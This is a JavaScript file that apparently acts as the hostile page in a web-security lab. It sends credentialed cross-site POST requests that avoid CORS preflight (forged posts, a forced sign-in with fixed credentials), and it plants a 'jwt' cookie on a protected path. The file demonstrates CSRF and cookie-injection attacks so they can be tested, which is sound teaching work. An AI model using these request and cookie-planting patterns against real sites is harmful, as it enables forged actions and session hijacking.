// What a hostile page could do, on the order of a card of /lab. It knows these orders alone, so that a page which gives
// orders cannot make it send anything else.
const { apiPort, pages } = document.currentScript.dataset;
const listed = pages.split(' ');

const post = (path, type, body) => (api) =>
  fetch(`${api}${path}`, { method: 'POST', credentials: 'include', headers: { 'Content-Type': type }, body });

const orders = {
  // Types that need no preflight (Fetch, section 2.2.2): a form sends the same.
  post: post('/api/posts', 'text/plain', '{"note":"Written by a foreign page"}'),
  'sign-in': post('/api/users/authenticate', 'text/plain', '{"uid":"hop","password":"123hop"}'),
  'post-json': post('/api/posts', 'application/json', '{"note":"Written by a foreign page"}'),
};

// Cookies belong to a host and not to a port, so this page can give the app a cookie. The longer path wins: the browser
// sends this one first.
const plant = (value, age) => {
  // biome-ignore lint/suspicious/noDocumentCookie: the other API has no Path with fixed ages, and not every browser has it.
  document.cookie = `jwt=${value}; Path=/protected; Max-Age=${age}; SameSite=Lax`;
};

window.addEventListener('message', async ({ origin, source, data }) => {
  if (!listed.includes(origin) || source !== window.parent) return;
  const reply = (outcome) => source.postMessage({ order: data.order, outcome }, origin);
  if (data.order === 'plant') {
    plant(data.token, 60);
    return reply('planted');
  }
  if (data.order === 'clear') {
    plant('', 0);
    return reply('cleared');
  }
  if (!Object.hasOwn(orders, data.order)) return;
  // The API under the name that the app uses, whatever name this page has.
  const api = `http://${new URL(origin).hostname}:${apiPort}`;
  await orders[data.order](api).then(
    ({ status }) => reply(`read ${status}`),
    ({ name }) => reply(name),
  );
});
